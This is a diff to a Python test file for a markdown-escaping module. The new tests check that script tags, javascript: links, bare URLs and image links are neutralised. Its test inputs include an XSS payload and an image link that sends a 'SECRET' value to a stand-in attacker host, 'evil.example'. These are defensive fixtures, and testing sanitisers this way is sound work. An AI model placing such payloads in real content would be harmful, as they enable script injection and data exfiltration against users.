@@ -200,10 +200,22 @@ def test_escape_text_is_literal_and_reversible(text):
     assert render.unescape_text(escaped) == text
 
 
-def test_safe_markdown_keeps_formatting_but_not_html_or_script_links():
-    out = render.safe_markdown("**bold** [1] <script>x</script> [a](javascript:alert(1)) [b](https://example.org)")
-    assert "**bold** [1]" in out and "<script>" not in out and "&lt;script>" in out
-    assert "\\](javascript:" in out and "](https://example.org)" in out
+def test_safe_markdown_keeps_formatting_but_no_html_links_or_images():
+    out = render.safe_markdown("**bold** [1] <script>x</script> [a](javascript:alert(1)) [b](https://example.org) "
+                               "![p](http://evil.example/x.png?leak=SECRET) \\[c](http://e.x) www.e.x me@e.x\n"
+                               "[r]: http://e.x")
+    assert "**bold** \\[1\\]" in out and "<script>" not in out and "&lt;script>" in out
+    assert not re.search(r"(?<!\\)[\[\]]", out.replace("\\\\", "")), "every bracket is escaped"
+    assert "http://" not in out and "www." not in out and "@" not in out.replace("\\@", ""), "no bare links"
+    assert render.unescape_text(out).startswith("**bold** [1] <script>x</script> [a](javascript:")
+
+
+@pytest.mark.parametrize("text", ["![p](http://evil.example/x.png?from=doc)", "www.evil.example", "a@b.example",
+                                  "<https://evil.example>", "[r]: http://evil.example"])
+def test_escaped_text_has_no_links(text):
+    out = render.escape_text(text)
+    assert "http://" not in out and "https://" not in out and "www." not in out and "a@" not in out
+    assert render.unescape_text(out) == text
 
 
 def test_highlight_marks_each_supporting_sentence_and_escapes_the_rest():
